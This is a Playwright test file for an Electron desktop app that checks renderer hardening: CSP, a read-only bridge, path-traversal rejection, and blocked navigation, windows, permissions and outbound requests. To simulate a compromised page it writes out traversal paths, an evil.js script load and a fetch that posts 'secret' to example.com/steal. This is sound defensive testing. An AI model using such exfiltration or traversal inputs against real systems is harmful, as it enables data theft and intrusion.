import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { DesktopBridge, DesktopFacts } from '../../contract/desktop/desktop-bridge.ts'
import { expect, test, type Console } from './desktop-test.ts'
import { startAgain } from './launch.ts'

/** The bridge's members. The compiler verifies that the list is complete. */
const bridgeMembers = {
  facts: true,
  ready: true,
  session: true,
  identity: true,
  offlineResponses: true,
  unsaved: true,
  readConfig: true,
  setup: true,
  openExternal: true,
  commands: true,
  rows: true,
  notify: true,
  savePdf: true,
  preferences: true,
  watchedFolder: true,
  showSaved: true,
  onSaved: true,
  readDiagnostics: true,
  onOpenPath: true,
  onUpdateReady: true,
  onWake: true,
} satisfies Record<keyof DesktopBridge, true>

const facts = {
  appVersion: true,
  platform: true,
  apiOrigin: true,
  setup: true,
} satisfies Record<keyof DesktopFacts, true>

test.describe('the window', () => {
  test('shows our own pages and exposes no Node API, only the unmodifiable contract bridge', async ({
    start,
  }) => {
    const { app, page } = await start()
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    expect(await addressOf({ app })).toMatch(/^app:\/\/kerblight\//)

    const nodeNames = ['require', 'process', 'module', 'exports', 'Buffer', 'global', '__dirname', 'electron']
    const exposedNames = await page.evaluate((names) => names.filter((name) => name in window), nodeNames)
    expect(exposedNames).toEqual([])

    const bridge = await page.evaluate(() => ({
      members: Object.keys(window.desktop ?? {}),
      facts: Object.keys(window.desktop?.facts ?? {}),
      kinds: Object.values(window.desktop ?? {}).map((member) => typeof member),
    }))
    expect(bridge.members.toSorted()).toEqual(Object.keys(bridgeMembers).toSorted())
    expect(bridge.facts.toSorted()).toEqual(Object.keys(facts).toSorted())
    expect(new Set(bridge.kinds)).toEqual(new Set(['function', 'object']))

    const isChanged = await page.evaluate(() => {
      const before = window.desktop
      for (const change of [
        () => Object.assign(window, { desktop: {} }),
        () => Reflect.deleteProperty(window, 'desktop'),
        () => Object.assign(window.desktop ?? {}, { openExternal: () => {} }),
      ]) {
        try {
          change()
        } catch {
          // The bridge is read-only, so the write fails as expected.
        }
      }
      return (
        window.desktop !== before || String(window.desktop?.openExternal) !== String(before?.openExternal)
      )
    })
    expect(isChanged).toBe(false)
  })
})

test.describe('app://kerblight', () => {
  test('serves only the built renderer, under a policy without external scripts', async ({ start }) => {
    const { app } = await start()
    const responses = await app.evaluate(async ({ net }, addresses) => {
      const statuses: Record<string, number> = {}
      for (const address of addresses) statuses[address] = (await net.fetch(address)).status
      const post = await net.fetch('app://kerblight/', { method: 'POST' })
      return { ...statuses, post: post.status }
    }, addresses)
    expect(responses).toEqual({
      'app://kerblight/': 200,
      'app://kerblight/dashboard/overview': 200,
      'app://kerblight/favicon.svg': 200,
      'app://kerblight/missing.js': 404,
      'app://kerblight/..%2fmain%2findex.js': 404,
      'app://kerblight/assets/..%2f..%2fmain%2findex.js': 404,
      'app://kerblight/..%5cmain%5cindex.js': 404,
      'app://kerblight/%2fetc%2fhostname.txt': 404,
      'app://elsewhere/': 404,
      post: 405,
    })

    const headers = await app.evaluate(async ({ net }) => {
      const response = await net.fetch('app://kerblight/')
      return Object.fromEntries(response.headers)
    })
    const policy = headers['content-security-policy'] ?? ''
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("script-src 'self';")
    expect(policy).not.toMatch(/unsafe|https:( |;|$)|\*( |;|$)/)
    expect(headers['x-content-type-options']).toBe('nosniff')
  })
})

const addresses = [
  'app://kerblight/',
  'app://kerblight/dashboard/overview',
  'app://kerblight/favicon.svg',
  'app://kerblight/missing.js',
  'app://kerblight/..%2fmain%2findex.js',
  'app://kerblight/assets/..%2f..%2fmain%2findex.js',
  'app://kerblight/..%5cmain%5cindex.js',
  'app://kerblight/%2fetc%2fhostname.txt',
  'app://elsewhere/',
]

test.describe('a compromised page', () => {
  test.use({ violationsExpected: true })
  let elsewhere: Elsewhere
  test.beforeEach(async () => {
    elsewhere = await startElsewhere()
  })
  test.afterEach(() => elsewhere.stop())

  test('cannot run external scripts, inline scripts, or eval', async ({ start }) => {
    const { page } = await start()
    const outcome = await page.evaluate(async (origin) => {
      const violations: string[] = []
      addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
      const remote = document.createElement('script')
      remote.src = `${origin}/evil.js`
      const inline = document.createElement('script')
      inline.textContent = 'window.name += "inline"'
      document.body.append(remote, inline)
      // A timer evaluates the string, because code that a test runs in the page may itself evaluate strings.
      Reflect.apply(setTimeout, window, ['window.name += "text"'])
      await new Promise((resolve) => remote.addEventListener('error', resolve))
      await new Promise((resolve) => setTimeout(resolve, 50))
      return { name: window.name, violations: violations.toSorted() }
    }, elsewhere.origin)
    expect(outcome).toEqual({ name: '', violations: ['script-src', 'script-src-elem', 'script-src-elem'] })
    expect(elsewhere.visits).toEqual([])
  })

  test('cannot go to another site', async ({ start }) => {
    const console_ = await start()
    await expect(console_.page.getByRole('heading', { level: 1 })).toBeVisible()
    await expect.poll(() => addressOf(console_)).toMatch(/\/login$/)
    const before = await addressOf(console_)
    for (const address of [`${elsewhere.origin}/gone`, 'file:///etc/hostname', 'https://example.com/']) {
      await console_.page.evaluate((href) => {
        location.href = href
      }, address)
      await settled(console_)
      expect(await addressOf(console_)).toBe(before)
    }
    expect(elsewhere.visits).toEqual([])
  })

  test('cannot be redirected to another site or contain a web view', async ({ start }) => {
    const { app } = await start()
    const prevented = await app.evaluate(({ webContents }) => {
      const [contents] = webContents.getAllWebContents()
      return ['will-redirect', 'will-attach-webview'].map((name) => {
        let isPrevented = false
        const event = { url: 'https://example.com/', preventDefault: () => (isPrevented = true) }
        contents?.emit(name, event, event.url)
        return isPrevented
      })
    })
    expect(prevented).toEqual([true, true])
  })

  test('opens no window for another site', async ({ start }) => {
    const console_ = await start()
    const { app, page } = console_
    await page.evaluate((origin) => {
      window.open(`${origin}/opened`)
      window.open('about:blank')
      const link = document.createElement('a')
      link.href = `${origin}/clicked`
      link.target = '_blank'
      link.textContent = 'A way out'
      document.body.replaceChildren(link)
    }, elsewhere.origin)
    const link = page.getByRole('link', { name: 'A way out' })
    await link.click()
    await link.click({ modifiers: ['Control'] })
    await link.click({ modifiers: ['Shift'] })
    await settled(console_)
    await expect.poll(() => app.windows().length).toBe(1)
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    expect(elsewhere.visits).toEqual([])
  })

  test('is denied every device and permission except the camera’s video', async ({ start }) => {
    const { page } = await start()
    const responses = await page.evaluate(async () => {
      const position = new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          ({ code }) => resolve(code),
          { timeout: 5000 },
        ),
      )
      const clipboard = navigator.clipboard.readText().then(
        () => 'granted',
        ({ name }: DOMException) => name,
      )
      const states = await Promise.all(
        (['camera', 'microphone', 'midi'] as PermissionName[]).map(
          async (name) => (await navigator.permissions.query({ name })).state,
        ),
      )
      return [await Notification.requestPermission(), await position, await clipboard, ...states]
    })
    expect(responses).toEqual(['denied', 1, 'NotAllowedError', 'granted', 'denied', 'denied'])
  })

  test('cannot send requests to an unknown host', async ({ start }) => {
    const { page } = await start()
    const response = await page.evaluate(() =>
      fetch('https://example.com/steal', { method: 'POST', body: 'secret' }).then(
        () => 'sent',
        ({ name }: Error) => name,
      ),
    )
    expect(response).toBe('TypeError')
  })
})

test.describe('a second start', () => {
  test('exits immediately and brings the first window to the front', async ({ start }) => {
    const { app, options } = await start()
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.minimize())
    expect(await startAgain(options)).toBe(0)
    await expect
      .poll(() =>
        app.evaluate(({ BrowserWindow }) =>
          BrowserWindow.getAllWindows().map((window) => window.isMinimized()),
        ),
      )
      .toEqual([false])
  })
})

/**
 * Returns the page's URL in the main process. With the Electron stand-in, the page reports a different one.
 */
function addressOf({ app }: Pick<Console, 'app'>): Promise<string> {
  return app.evaluate(({ webContents }) => webContents.getAllWebContents()[0]?.getURL() ?? '')
}

/** Resolves when each of the page's requests so far has been allowed or blocked. */
async function settled({ app, page }: Console): Promise<void> {
  for (let round = 0; round < 3; round++) {
    // If the page has navigated despite the guard, this call fails, and the URL shows the navigation.
    await page
      .evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))))
      .catch(() => {})
    await app.evaluate(() => new Promise((resolve) => setImmediate(resolve)))
  }
}

interface Elsewhere {
  origin: string
  visits: string[]
  stop: () => void
}

/** Starts another site, which the console must never contact. */
async function startElsewhere(): Promise<Elsewhere> {
  const visits: string[] = []
  const server: Server = createServer((request, response) => {
    visits.push(request.url ?? '')
    response.setHeader('Content-Type', 'text/html')
    response.end('<title>Elsewhere</title>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return { origin: `http://127.0.0.1:${port}`, visits, stop: () => server.close() }
}
